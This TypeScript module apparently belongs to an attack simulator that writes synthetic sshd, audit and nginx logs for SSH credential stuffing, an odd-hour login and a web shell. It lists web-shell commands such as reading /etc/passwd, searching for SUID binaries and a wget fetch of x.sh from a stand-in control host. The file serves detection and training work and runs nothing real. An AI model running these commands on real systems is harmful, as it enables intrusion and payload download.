import {publicAddress} from '../facts.ts';
import type {Host} from '../host.ts';
import {logIn, logOut} from '../ordinary/people.ts';
import {access} from '../ordinary/web.ts';
import type {Script} from '../simulation.ts';
import type {Attack, Intruder} from './attack.ts';

/** Guesses at a real account until one is right. */
function* stuffing(host: Host, {address, victim}: Intruder): Script {
  const many = host.chance(0.5);
  for (let tries = host.random.between(12, 120); tries > 0; tries--) {
    const from = many && host.chance(0.6) ? publicAddress(host.random) : address;
    const pid = host.newPid();
    const port = host.port();
    host.flow({
      service: 'ssh',
      from,
      fromPort: port,
      to: host.facts.address,
      toPort: 22,
      out: 1_900,
      in: 2_300,
      lasts: 3,
    });
    host.log(
      'sshd',
      `pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=${from}  user=${victim.name}`,
      pid,
    );
    yield 1.5 + host.random.next();
    host.log('sshd', `Failed password for ${victim.name} from ${from} port ${port} ssh2`, pid);
    host.log('sshd', `Connection closed by authenticating user ${victim.name} ${from} port ${port} [preauth]`, pid);
    yield host.random.exponential(many ? 12 : 3);
  }
  const login = yield* logIn(host, victim, address, {byPassword: true, lasts: 900});
  yield 900;
  logOut(host, victim, address, login);
}

/** Nothing but a login that is right in all and wrong in when and from where. */
function* strangeLogin(host: Host, {address, victim}: Intruder): Script {
  const login = yield* logIn(host, victim, address, {byPassword: host.chance(0.5), lasts: 1_500});
  yield 1_500;
  logOut(host, victim, address, login);
}

const commands = [
  'id',
  'uname+-a',
  'cat+/etc/passwd',
  'ls+-la+/var/www',
  'wget+http://TO/x.sh',
  'ps+aux',
  'netstat+-tlpn',
  'find+/+-perm+-4000',
] as const;

/** An upload, then commands through the page that was uploaded, run by the web server's user. */
function* webShell(host: Host, {address, control}: Intruder): Script {
  const agent = host.chance(0.5)
    ? 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36'
    : 'python-requests/2.28.1';
  const page = host.random.pick([
    '/uploads/img_0412.php',
    '/static/.cache/help.php',
    '/images/logo.jsp',
    '/account/avatar/7f3a.phtml',
  ]);
  const quiet = host.chance(0.5);
  access(host, address, 'POST /account/avatar HTTP/1.1', 200, 412, agent);
  host.flow({service: 'https', from: address, to: host.facts.address, toPort: 443, out: 48_000, in: 9_000, lasts: 400});
  for (let number = host.random.between(6, 25); number > 0; number--) {
    yield 4 + host.random.exponential(20);
    const command = host.random.pick(commands).replace('TO', control);
    access(
      host,
      address,
      quiet ? `POST ${page} HTTP/1.1` : `GET ${page}?cmd=${command} HTTP/1.1`,
      host.chance(0.1) ? 500 : 200,
      host.random.between(40, 9_000),
      agent,
    );
    const pid = host.newPid();
    const words = command.split('+');
    host.audit(
      'SYSCALL',
      `arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f a3=8 items=2 ppid=${pid - 2} pid=${pid} auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="${words[0]}" exe="/usr/bin/${words[0]}" key="exec"`,
    );
    host.audit('EXECVE', `argc=${words.length} ${words.map((word, at) => `a${at}="${word}"`).join(' ')}`);
    if (words[0] === 'wget') host.flow({service: 'http', to: control, toPort: 80, out: 300, in: 14_000, lasts: 0.6});
  }
  if (host.chance(0.6))
    host.log(
      'sudo',
      ' www-data : a password is required ; TTY=unknown ; PWD=/var/www/html/uploads ; USER=root ; COMMAND=/usr/bin/id',
      null,
    );
  if (host.chance(0.5))
    host.write(
      'nginx/error.log',
      `${host.stamps.local(host.now).replace(/-/g, '/')} [error] ${host.daemon('nginx')}#${host.daemon('nginx')}: *${host.random.between(1_000, 900_000)} FastCGI sent in stderr: "PHP message: PHP Warning:  system(): Cannot execute a blank command in /var/www/html${page} on line 1" while reading response header from upstream, client: ${address}, server: ${host.facts.domain}, request: "POST ${page} HTTP/1.1", host: "${host.facts.domain}"`,
    );
}

export const accessAttacks: readonly Attack[] = [
  {name: 'credential-stuffing', technique: 'T1110.004 T1078', stage: 1, effects: [], run: stuffing},
  {name: 'strange-login', technique: 'T1078', stage: 1, effects: [], atNight: true, run: strangeLogin},
  {
    name: 'web-shell',
    technique: 'T1505.003 T1190',
    stage: 1,
    effects: [],
    suits: facts => facts.personalities.includes('web'),
    run: webShell,
  },
];
